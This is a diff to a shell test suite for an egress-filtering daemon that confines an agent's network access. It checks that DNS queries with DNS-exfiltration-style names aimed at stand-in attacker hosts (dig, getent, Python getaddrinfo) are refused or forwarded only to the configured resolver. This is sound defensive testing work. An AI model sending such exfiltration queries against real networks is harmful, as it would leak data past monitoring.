@@ -124,14 +124,15 @@ OPERATOR_DENY=203.0.113.99	# EGRESSD_DENY_CIDRS of the tests that set it
 # More addresses in the server namespace (metadata, another resolver, an
 # operator-denied host), their servers logging to server2.log, raw sockets
 # that log every SCTP, DCCP, UDP-Lite, ICMP echo and protocol-253 packet,
-# and a stand-in for the policy DNS listener on 127.0.0.1:15053 and
-# [::1]:15053 (the daemon's own lands with the policy DNS; until then the
-# stand-in runs in the daemon's cgroup and logs each question to dns.log).
+# and the resolver the daemon itself asks (EGRESSD_RESOLVERS, a real small
+# DNS responder at $REAL_DNS logging each query it gets to upstream-dns.jsonl).
+REAL_DNS=198.51.100.53
 doors_setup() {
-	nft_setup "$@"
+	nft_setup --resolvers $REAL_DNS "$@"
 	ip -n "$NS_S" addr add $META4/32 dev v1
 	ip -n "$NS_S" addr add $OTHER_DNS/32 dev v1
 	ip -n "$NS_S" addr add $OPERATOR_DENY/32 dev v1
+	ip -n "$NS_S" addr add $REAL_DNS/32 dev v1
 	ip -n "$NS_S" addr add $META6/128 dev v1 nodad
 	(in_srv python3 "$FIX/servers.py" --log "$T/server2.log" --ready "$T/servers2.ready" \
 		--http $META4:80 --http "[$META6]:80" --http $OPERATOR_DENY:80 \
@@ -139,11 +140,11 @@ doors_setup() {
 		--udp $SRV4:443 --udp "[$SRV6]:5353" --raw 1 --raw 58@v6 --raw 132 --raw 33 --raw 136 --raw 253 \
 		>"$T/servers2.out" 2>&1 3>&- &)
 	wait_for 10 test -e "$T/servers2.ready"
-	(exempt python3 "$FIX/dns_standin.py" --listen 127.0.0.1:15053 --listen "[::1]:15053" \
-		--answer 192.0.2.53 --log "$T/dns.log" --ready "$T/dns.ready" \
+	(in_srv python3 "$FIX/dns_server.py" --listen $REAL_DNS --log "$T/upstream-dns.jsonl" \
+		--ready "$T/dns.ready" --record allowed.test:A:192.0.2.53 \
 		>"$T/dns.out" 2>&1 3>&- &)
 	wait_for 10 test -e "$T/dns.ready"
-	touch "$T/server2.log" "$T/dns.log"
+	touch "$T/server2.log" "$T/upstream-dns.jsonl"
 }
 
 # nothing_reached PATTERN: no line of either server log matches.
@@ -156,37 +157,63 @@ nothing_reached() {
 
 @test "nft: DNS to the resolver and to any other address, UDP and TCP, reaches only the policy DNS" {
 	doors_setup
-	for phase in agent verification; do
-		[ "$phase" = agent ] || flip_to_verification
-		for dst in $SRV4 $OTHER_DNS $SRV6 127.0.0.53; do
-			for proto in udp tcp; do
-				# A connected UDP socket takes only an answer from the
-				# address it asked: the reply's source is restored.
-				run agent python3 "$FIX/client.py" dns $dst 53 \
-					"$proto-$phase.exfil.attacker.example" $proto
-				echo "$phase $dst $proto: $output"
-				[ "$output" = 192.0.2.53 ]
-			done
+	# Agent phase: every exfiltration name is REFUSED by the policy DNS,
+	# whichever address it was sent to. A connected UDP socket takes only
+	# an answer from the address it asked: the reply's source is restored.
+	for dst in $SRV4 $OTHER_DNS $SRV6 127.0.0.53; do
+		for proto in udp tcp; do
+			run agent python3 "$FIX/client.py" dns $dst 53 \
+				"$proto-agent.exfil.attacker.example" $proto
+			echo "agent $dst $proto: $output"
+			[ "$output" = REFUSED ]
 		done
 	done
-	run agent dig +short +time=2 +tries=1 @$OTHER_DNS dig-udp.attacker.example A
-	[ "$output" = 192.0.2.53 ]
-	run agent dig +short +tcp +time=2 +tries=1 @$SRV4 dig-tcp.attacker.example A
-	[ "$output" = 192.0.2.53 ]
-	# glibc's stub resolver, told to use a resolver outside.
+	run agent dig +time=2 +tries=1 @$OTHER_DNS dig-udp.attacker.example A
+	[[ "$output" == *"status: REFUSED"* ]]
+	run agent dig +tcp +time=2 +tries=1 @$SRV4 dig-tcp.attacker.example A
+	[[ "$output" == *"status: REFUSED"* ]]
+	# glibc's stub resolver and Python's getaddrinfo, told to use a
+	# resolver outside: no address, and the question was the policy DNS's.
 	printf 'nameserver %s\noptions attempts:1 timeout:2\n' $OTHER_DNS >"$T/resolv.conf"
 	run agent unshare --mount sh -c \
 		"mount --bind $T/resolv.conf /etc/resolv.conf && getent ahostsv4 glibc.attacker.example"
-	[[ "$output" == 192.0.2.53* ]]
+	[ "$status" -ne 0 ]
 	run agent unshare --mount sh -c "mount --bind $T/resolv.conf /etc/resolv.conf && python3 -c \
 		'import socket; print(socket.getaddrinfo(\"py.attacker.example\", 443, socket.AF_INET)[0][4][0])'"
+	[ "$status" -ne 0 ]
+	# An allowed name resolves the same way (the daemon asked its resolver).
+	run agent unshare --mount sh -c "mount --bind $T/resolv.conf /etc/resolv.conf && python3 -c \
+		'import socket; print(socket.getaddrinfo(\"openrouter.ai\", 443, socket.AF_INET)[0][4][0])'"
+	echo "openrouter.ai: $output"
+	sleep 0.2
+	audit_has event=dns qname=tcp-agent.exfil.attacker.example proto=tcp verdict=refuse
+	audit_has event=dns qname=udp-agent.exfil.attacker.example proto=udp verdict=refuse
+	audit_has event=dns qname=dig-tcp.attacker.example proto=tcp verdict=refuse
+	audit_has event=dns qname=glibc.attacker.example verdict=refuse
+	audit_has event=dns qname=py.attacker.example verdict=refuse
+	audit_has event=dns qname=openrouter.ai verdict=resolve
+	# Not one agent-phase question left the machine, not even to the
+	# configured resolver, apart from the daemon's own lookup of the
+	# intercept host.
+	! grep -v '"qname": "openrouter.ai"' "$T/upstream-dns.jsonl" | grep -q .
+	nothing_reached '"port": 53'
+	nothing_reached tcp53
+
+	# Verification phase: the policy DNS forwards, to the configured
+	# resolver only, whatever address the agent named.
+	flip_to_verification
+	for dst in $SRV4 $OTHER_DNS $SRV6 127.0.0.53; do
+		for proto in udp tcp; do
+			run agent python3 "$FIX/client.py" dns $dst 53 \
+				"$proto-verif.exfil.attacker.example" $proto
+			echo "verification $dst $proto: $output"
+			[ "$output" = NXDOMAIN ]
+		done
+	done
+	run agent python3 "$FIX/client.py" dns $OTHER_DNS 53 allowed.test udp
 	[ "$output" = 192.0.2.53 ]
-	grep -q '"qname": "tcp-agent.exfil.attacker.example", "transport": "tcp"' "$T/dns.log"
-	grep -q '"qname": "py.attacker.example"' "$T/dns.log"
-	grep -q '"qname": "udp-verification.exfil.attacker.example", "transport": "udp"' "$T/dns.log"
-	grep -q '"qname": "dig-tcp.attacker.example", "transport": "tcp"' "$T/dns.log"
-	grep -q '"qname": "glibc.attacker.example"' "$T/dns.log"
-	# Not one query reached a resolver in the "internet".
+	grep -q '"qname": "tcp-verif.exfil.attacker.example"' "$T/upstream-dns.jsonl"
+	audit_has event=dns phase=verification qname=udp-verif.exfil.attacker.example verdict=forward
 	nothing_reached '"port": 53'
 	nothing_reached tcp53
 }
